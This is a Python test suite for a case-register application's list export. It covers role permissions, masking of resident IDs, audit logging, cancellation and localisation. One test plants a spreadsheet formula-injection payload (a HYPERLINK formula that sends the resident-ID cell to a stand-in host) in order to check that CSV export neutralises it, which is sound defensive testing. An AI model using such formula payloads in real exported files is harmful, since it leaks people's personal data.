"""Exporting as a role: what a list shows (its filters, order, columns, words), masking, paging,
refusal, the audit entry, and `canvass export` in the interface language."""
from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtWidgets import QApplication
from python_calamine import CalamineWorkbook
from sqlalchemy import select

import controllers.exporting.shown
import main
from controllers.exporting.lists import export_list
from controllers.exporting.shown import ExportCancelled, ShownColumn, export_shown_list
from controllers.register.rows import person_rows
from controllers.runtime.actions import SignedInUser
from controllers.runtime.language import install_translators
from models.accounts.permissions import PermissionDenied
from models.db.database import Database
from models.db.row_source import SortOrder
from models.enums import CaseCategory, Sex, UserRole
from models.schema.accounts import AuditEntry
from models.schema.register import Person
from tests.support.factories import make_case, make_person, make_place
from tests.support.signing_in import signed_in

WORDS = {"M": "男", "F": "女"}


def _user(role: UserRole) -> SignedInUser:
    return SignedInUser(None, role.value, role.value, role)


@pytest.fixture
def chinese(qapp: QApplication) -> Iterator[None]:
    undo = install_translators(qapp, "zh")
    yield
    undo()


def _fill(database: Database) -> int:
    """Two cases in one community, and 20 more persons in a second one; the first's id."""
    with database.sessions() as session:
        place = make_place(session)
        first = make_person(session, place)
        first.sex, first.birth_date = Sex.MALE, date(1980, 1, 1)
        make_case(session, place, first)
        other = make_person(session, place, "李娜")
        other.resident_id, other.sex = "420102199002021236", Sex.FEMALE
        make_case(session, place, other).category = CaseCategory.CONFIRMED
        elsewhere = make_place(session, "2")
        for n in range(20):
            make_person(session, elsewhere, f"王{n:02d}")
        session.commit()
        return first.community_id


def _sheet(path: Path) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()


def _columns(masked: bool = False) -> list[ShownColumn]:
    """The register's columns as a list would hand them over: name, resident ID, sex, born (the
    age, where the resident ID is masked: the list shows no birth date beside a masked ID)."""
    def born(value: Any) -> date | None:
        return date.fromisoformat(value) if value else None
    return [ShownColumn("name", "姓名", str), ShownColumn("resident_id", "身份证号", str),
            ShownColumn("sex", "性别", lambda value: WORDS.get(value, value)),
            ShownColumn("age", "年龄", lambda value: value) if masked
            else ShownColumn("birth_date", "出生日期", born)]


def _age_on_1980_01_01() -> int:
    today = date.today()
    return today.year - 1980 - ((today.month, today.day) < (1, 1))


def test_the_register_as_shown_filtered_ordered_and_masked(
        database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    community = _fill(database)
    monkeypatch.setattr(controllers.exporting.shown, "PAGE", 3)   # every page is read
    path = tmp_path / "register.xlsx"
    commander = _user(UserRole.COMMANDER)
    source = person_rows(database, commander)
    assert export_shown_list(database, commander, "PersonRows", "人员", source,
                             {"community_id": community}, SortOrder("name"), _columns(),
                             path) == 2
    rows = _sheet(path)
    assert rows[0] == ["姓名", "身份证号", "性别", "出生日期"]
    on_screen = source.page({"community_id": community}, SortOrder("name"), 0, 10)
    assert [row[0] for row in rows[1:]] == [row[1] for row in on_screen]   # the list's order
    assert {row[1] for row in rows[1:]} == {"420102198001011234", "420102199002021236"}
    assert {row[2] for row in rows[1:]} == {"男", "女"} and date(1980, 1, 1) in {
        row[3] for row in rows[1:]}

    dispatcher = _user(UserRole.DISPATCHER)
    every = tmp_path / "everyone.csv"
    progress: list[tuple[int, int]] = []
    assert export_shown_list(database, dispatcher, "PersonRows", "人员",
                             person_rows(database, dispatcher), {}, SortOrder("id"),
                             _columns(masked=True), every,
                             lambda done, total: progress.append((done, total))) == 22
    text = every.read_text(encoding="utf-8-sig")
    assert "420102********1234" in text and "420102198001011234" not in text
    assert f"420102********1234,男,{_age_on_1980_01_01()}" in text and "1980" not in text
    assert progress[-1] == (22, 22)
    with database.sessions() as session:
        audits = session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).all()
    assert [(a.username, a.table_name) for a in audits] == [("commander", "PersonRows"),
                                                             ("dispatcher", "PersonRows")]
    assert '"rows": 22' in audits[1].changes and '"masked": true' in audits[1].changes


def test_a_role_without_export_is_refused_and_no_file_appears(database: Database,
                                                              tmp_path: Path) -> None:
    _fill(database)
    clerk = _user(UserRole.CLERK)
    with pytest.raises(PermissionDenied):
        export_list(database, clerk, "cases", tmp_path / "x.xlsx")
    with pytest.raises(PermissionDenied):
        export_shown_list(database, clerk, "PersonRows", "人员",
                          person_rows(database, _user(UserRole.DISPATCHER)), {},
                          SortOrder("id"), _columns(), tmp_path / "y.xlsx")
    assert not list(tmp_path.glob("*.xlsx"))


def test_the_line_list_speaks_the_interface_language(database: Database, tmp_path: Path,
                                                     chinese: None) -> None:
    _fill(database)
    path = tmp_path / "cases.xlsx"
    assert export_list(database, _user(UserRole.DISPATCHER), "cases", path) == 2
    rows = _sheet(path)
    assert rows[0][:4] == ["姓名", "身份证号", "性别", "年龄"]
    text = " ".join(str(cell) for row in rows[1:] for cell in row)
    assert "确诊患者" in text and "男" in text and "女" in text
    for code in ("confirmed", "fever", "identified", "F", "M"):
        assert code not in [str(cell) for row in rows[1:] for cell in row]
    assert {row[1] for row in rows[1:]} == {"420102********1234", "420102********1236"}


def test_the_command_exports_masked_and_refuses_a_bad_suffix(
        database: Database, database_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    _fill(database)
    signed_in(database, monkeypatch, "dispatcher")      # a role that exports, IDs masked
    out = tmp_path / "cases.csv"
    assert main.run(["--lang", "en", "--db", database_url, "export", "cases", "--out",
                     str(out)]) == 0
    assert "2 rows of the cases list" in capsys.readouterr().out
    text = out.read_text(encoding="utf-8-sig")
    assert text.startswith("Name,Resident ID,Sex,Age")
    assert "420102********1234" in text and "420102198001011234" not in text
    assert "Confirmed" in text and ",Female," in text
    assert main.run(["--lang", "zh", "--db", database_url, "export", "cases", "--out",
                     str(out)]) == 0
    assert "病例名单 2 行" in capsys.readouterr().out
    assert "确诊患者" in out.read_text(encoding="utf-8-sig")
    assert main.run(["--lang", "zh", "--db", database_url, "export", "cases", "--out",
                     str(tmp_path / "cases.pdf")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("canvass: ") and "文件名须以 .xlsx 或 .csv 结尾" in err
    assert err.count("\n") == 1


def test_a_cancelled_export_leaves_no_file(database: Database, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    _fill(database)
    monkeypatch.setattr(controllers.exporting.shown, "PAGE", 2)
    asked: list[int] = []

    def cancelled() -> bool:
        asked.append(1)
        return True
    dispatcher = _user(UserRole.DISPATCHER)
    with pytest.raises(ExportCancelled):
        export_shown_list(database, dispatcher, "PersonRows", "人员",
                          person_rows(database, dispatcher), {}, SortOrder("id"),
                          _columns(masked=True), tmp_path / "gone.xlsx", cancelled=cancelled)
    assert asked and not list(tmp_path.glob("gone*"))


def test_the_export_entry_keeps_a_searched_identifier_masked(database: Database,
                                                             tmp_path: Path) -> None:
    """The log is read by roles that may not see identifiers: a phone typed into the list's
    search box, exported by a commander, is kept as they would see it."""
    _fill(database)
    commander = _user(UserRole.COMMANDER)
    for text in ("13800000000", "420102198001011234", "张"):
        export_shown_list(database, commander, "PersonRows", "人员",
                          person_rows(database, commander), {"text": text}, SortOrder("id"),
                          _columns(), tmp_path / "found.csv")
    with database.sessions() as session:
        kept = session.scalars(select(AuditEntry.changes).where(AuditEntry.action == "export")
                               .order_by(AuditEntry.id)).all()
    assert ['"text": "138****0000"' in kept[0], '"text": "420102********1234"' in kept[1],
            '"text": "张"' in kept[2]] == [True, True, True]
    assert not any("13800000000" in text or "420102198001011234" in text for text in kept)


def test_a_shown_list_as_csv_keeps_ids_text_and_runs_no_name(database: Database,
                                                              tmp_path: Path) -> None:
    """The resident ID column (by its key, as the row source declares it) goes behind a tab;
    a name typed to run goes behind an apostrophe; the words of the sex column stay as they are."""
    community = _fill(database)
    with database.sessions() as session:
        named = session.scalars(select(Person).where(Person.name == "李娜")).one()
        named.name = "=HYPERLINK(\"http://x/?\"&B2,\"点击\")"
        session.commit()
    commander = _user(UserRole.COMMANDER)
    path = tmp_path / "register.csv"
    export_shown_list(database, commander, "PersonRows", "人员", person_rows(database, commander),
                      {"community_id": community}, SortOrder("name"), _columns(), path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row[1].strip(): row for row in csv.reader(handle)}
    assert rows["420102198001011234"][:3] == ["张伟", "\t420102198001011234", "男"]
    assert rows["420102199002021236"][:3] == ["'=HYPERLINK(\"http://x/?\"&B2,\"点击\")",
                                              "\t420102199002021236", "女"]


def test_the_command_writes_xlsx_for_a_name_without_a_suffix(
        database: Database, database_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """.xlsx is the default: typed cells, nothing for a spreadsheet to guess."""
    _fill(database)
    assert main.run(["--lang", "en", "--db", database_url, "export", "cases", "--out",
                     str(tmp_path / "cases")]) == 0
    assert "cases.xlsx" in capsys.readouterr().out
    assert _sheet(tmp_path / "cases.xlsx")[0][:2] == ["Name", "Resident ID"]
